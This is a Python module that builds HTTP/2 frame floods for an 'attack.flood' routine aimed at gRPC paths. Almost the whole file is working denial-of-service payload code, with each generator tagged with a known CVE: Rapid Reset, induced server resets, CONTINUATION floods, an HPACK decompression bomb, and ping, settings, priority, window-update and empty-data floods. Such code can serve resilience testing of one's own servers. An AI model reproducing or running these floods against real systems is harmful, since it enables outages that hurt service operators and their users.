"""What floods are made of: chunks of frames for `attack.flood`, on calls of any path."""

import functools
import itertools
import struct

from hpack import NeverIndexedHeaderTuple

from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                   PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, priority_payload,
                   settings_payload)


def grpc_fields(connection, path, more=()):
    return [*connection.request_fields("POST", path), ("te", "trailers"),
            ("content-type", "application/grpc"), *more]


def block_of(connection, path, more=()):
    """A header block that can be sent again and again: it puts nothing into the table."""
    fields = [NeverIndexedHeaderTuple(name, value)
              for name, value in grpc_fields(connection, path, more)]
    return connection.encode(fields)


def headers(stream, block, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, block)


def streams():
    return range(1, 2 * 20_000, 2)


def rapid_resets(connection, path):
    """CVE-2023-44487."""
    block = block_of(connection, path)
    for stream in streams():
        yield headers(stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def window_overflow(stream, connection, path):
    return headers(stream, block_of(connection, path)) + frame(
        WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)) * 2


def zero_increment(stream, connection, path):
    return headers(stream, block_of(connection, path)) + frame(
        WINDOW_UPDATE, 0, stream, bytes(4))


def uppercase_name(stream, connection, path):
    return headers(stream, block_of(connection, path, [("X-BAD", "1")]))


def connection_field(stream, connection, path):
    return headers(stream, block_of(connection, path, [("connection", "close")]))


def content_length(stream, connection, path):
    return headers(stream, block_of(connection, path, [("content-length", "1")])) + frame(
        DATA, END_STREAM, stream, b"test")


def self_dependency(stream, connection, path):
    return headers(stream, block_of(connection, path)) + frame(
        PRIORITY, 0, stream, priority_payload(depends_on=stream))


# Ways to make a server reset a stream by itself: CVE-2025-8671.
MADE_RESETS = [
    window_overflow, zero_increment, uppercase_name, connection_field, content_length, self_dependency,
]


def made_resets(way, connection, path):
    return (way(stream, connection, path) for stream in streams())


def continuations(connection, path, part=b""):
    """CVE-2024-28182, CVE-2024-27316."""
    first = headers(1, block_of(connection, path), flags=END_STREAM)
    return itertools.chain([first], [frame(CONTINUATION, 0, 1, part) * 10] * 5_000)


def hpack_bombs(connection, path):
    """CVE-2016-6581: 14 KB on the wire, 40 MB in a list."""
    for stream in streams():
        # The newest entry of the table is 62: one byte for each copy.
        block = connection.encode([*grpc_fields(connection, path), ("x-bomb", "x" * 3_900)])
        yield headers(stream, block + b"\xbe" * 10_000, END_HEADERS | END_STREAM)


def pings():
    """CVE-2019-9512."""
    return [frame(PING, 0, 0, bytes(8)) * 100] * 1_000


def settings():
    """CVE-2019-9515."""
    one = frame(SETTINGS, 0, 0, settings_payload([(INITIAL_WINDOW_SIZE, 65535)]))
    return [one * 50] * 2_000


def priorities():
    """CVE-2019-9513."""
    for first in range(3, 200_000, 200):
        yield b"".join(
            frame(PRIORITY, 0, stream, priority_payload(depends_on=stream - 2, weight=7))
            for stream in range(first, first + 200, 2))


def window_updates():
    return [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100] * 1_000


def empty_data(connection, path):
    """CVE-2019-9518."""
    first = headers(1, block_of(connection, path))
    return itertools.chain([first], [frame(DATA, 0, 1) * 100] * 1_000)


# All of them, each made for a connection and a path.
KINDS = [
    rapid_resets, continuations, hpack_bombs, empty_data,
    *(lambda connection, path, make=make: make()
      for make in (pings, settings, priorities, window_updates)),
    *(functools.partial(made_resets, way) for way in MADE_RESETS),
]
